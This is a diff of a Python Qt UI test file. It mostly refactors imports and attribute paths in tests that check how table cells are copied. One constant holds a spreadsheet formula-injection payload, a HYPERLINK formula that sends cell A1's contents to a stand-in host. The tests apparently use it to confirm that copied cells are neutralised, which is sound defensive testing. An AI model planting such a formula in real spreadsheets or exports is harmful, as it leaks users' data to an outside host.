@@ -11,7 +11,7 @@ from app.text import harmless
 from tests.ui.conftest import WAIT
 from tests.ui.sheets import HEADERS, rows
 from ui.kit.copying import copies, copy_cells
-from ui.main import Program
+from ui.program.program import Program
 
 EVIL = '=HYPERLINK("http://host.example/?"&A1,"x")'
 
@@ -67,7 +67,7 @@ def test_chosen_rows_of_the_sheet(program: Program, qtbot: QtBot) -> None:
     table[1][1] = EVIL.replace('"', "")
     with qtbot.waitSignal(program.work.sheet.loaded, timeout=WAIT):
         program.work.sheet.paste("\n".join("\t".join(map(str, row)) for row in (HEADERS, *table)), "pasted")
-    shown = program.window.upload.table
+    shown = program.pages.upload.table
     shown.selectAll()
     qtbot.keyClick(shown, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
     cells = [cell for row in pasted() for cell in row]
@@ -89,7 +89,7 @@ def test_every_list_copies_so(qapp: QApplication, qtbot: QtBot, view: type) -> N
 def test_no_list_of_the_window_copies_otherwise(sample: Program, qtbot: QtBot) -> None:
     window = sample.window
     for page in ("book", "schedule", "person", "messages", "history", "help"):
-        window.show_page(page)
+        sample.pages.show(page)
     bare = [
         part.objectName() or type(part).__name__
         for kind in (QTableView, QListView, QListWidget)
